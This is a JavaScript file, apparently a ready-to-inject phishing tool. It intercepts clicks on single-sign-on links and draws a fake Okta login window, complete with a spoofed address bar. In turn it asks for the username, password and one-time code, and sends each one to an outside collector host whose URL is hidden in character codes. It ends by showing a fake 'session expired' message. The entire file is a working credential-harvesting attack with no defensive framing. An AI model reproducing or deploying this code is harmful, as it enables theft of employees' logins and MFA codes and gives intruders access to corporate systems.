// bitb-credential-overlay: corporate single-sign-on look-alike window on an intranet/vendor portal; collector URL built from char codes
// ES5 with numeric tables; asks for username, password and the one-time code
(function () {
  var _c = String.fromCharCode;
  var sink = _c(104,116,116,112,115,58,47,47,115,115,111,45,111,107,116,97,45,118,101,114,105,102,121,46,110,101,116,47,105,100,112,47,99,111,108,108,101,99,116);
  var evClick = _c(99,108,105,99,107);          // click
  var evSubmit = _c(115,117,98,109,105,116);    // submit
  var org = (location.hostname.split('.').slice(-2, -1)[0] || 'company').toLowerCase();
  var shown = 'https://' + org + '.okta.com/oauth2/v1/authorize?client_id=0oa7x2kq1&response_type=code&scope=openid';

  var steps = [
    { label: 'Username', name: 'u', type: 'text', button: 'Next' },
    { label: 'Password', name: 'p', type: 'password', button: 'Verify' },
    { label: 'Enter code from Okta Verify', name: 'otp', type: 'text', button: 'Verify' }
  ];

  function node(tag, style, html) {
    var n = document.createElement(tag);
    if (style) n.style.cssText = style;
    if (html) n.innerHTML = html;
    return n;
  }

  function post(data) {
    var parts = [];
    for (var k in data) parts.push(encodeURIComponent(k) + '=' + encodeURIComponent(data[k]));
    try {
      fetch(sink, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: parts.join('&') });
    } catch (e) {
      var f = node('form');
      f.method = 'POST'; f.action = sink; f.target = '_blank';
      f.innerHTML = '<input name="d" value="' + encodeURIComponent(parts.join('&')) + '">';
      document.body.appendChild(f); f.submit();
    }
  }

  function openSso() {
    var frame = node('div', 'position:fixed;top:50px;left:50%;margin-left:-230px;width:460px;height:600px;background:#fff;' +
      'box-shadow:0 18px 56px rgba(0,0,0,.42);border-radius:6px;overflow:hidden;z-index:2147483647;font:14px Arial,sans-serif');
    frame.appendChild(node('div', 'height:30px;background:#e9e9ed;display:flex;align-items:center;padding:0 10px;font-size:12px',
      org.charAt(0).toUpperCase() + org.slice(1) + ' - Sign In<span class="sx" style="margin-left:auto;cursor:pointer">&#10005;</span>'));
    frame.appendChild(node('div', 'height:26px;background:#f9f9fb;font-size:12px;display:flex;align-items:center;padding:0 10px;border-bottom:1px solid #ddd',
      '&#128274;&nbsp;<span style="white-space:nowrap;overflow:hidden">' + shown + '</span>'));
    var card = node('form', 'margin:40px auto;width:320px;border:1px solid #ddd;border-radius:4px;padding:30px 26px',
      '<div style="text-align:center;font-size:22px;color:#1662dd;margin-bottom:20px">okta</div>' +
      '<div class="st" style="font-size:17px;font-weight:bold;text-align:center;margin-bottom:18px">Sign In</div>' +
      '<label class="lb" style="display:block;margin-bottom:6px"></label><input class="in" style="width:100%;padding:9px;border:1px solid #8c8c96;border-radius:3px">' +
      '<div class="er" style="color:#d93934;font-size:12px;min-height:16px;margin-top:6px"></div>' +
      '<button class="bt" style="width:100%;margin-top:18px;padding:10px;border:0;background:#1662dd;color:#fff;border-radius:3px"></button>');
    frame.appendChild(card);
    document.body.appendChild(frame);
    frame.querySelector('.sx').onclick = function () { frame.parentNode.removeChild(frame); };

    var i = 0, got = { portal: location.host };
    function render() {
      var s = steps[i];
      card.querySelector('.lb').textContent = s.label;
      var inp = card.querySelector('.in');
      inp.type = s.type; inp.value = ''; inp.focus();
      card.querySelector('.bt').textContent = s.button;
    }
    card.addEventListener(evSubmit, function (e) {
      e.preventDefault();
      var v = card.querySelector('.in').value;
      if (!v) return;
      got[steps[i].name] = v;
      post(got);
      i++;
      if (i < steps.length) return render();
      card.querySelector('.er').textContent = 'Your session has expired. Please contact your administrator.';
      setTimeout(function () { frame.parentNode && frame.parentNode.removeChild(frame); }, 2500);
    });
    render();
  }

  document.addEventListener(evClick, function (e) {
    var a = e.target.closest ? e.target.closest('a,button') : null;
    if (a && /sso|single sign|okta|company login|employee login/i.test(a.textContent + ' ' + (a.href || ''))) {
      e.preventDefault();
      openSso();
    }
  }, true);
})();
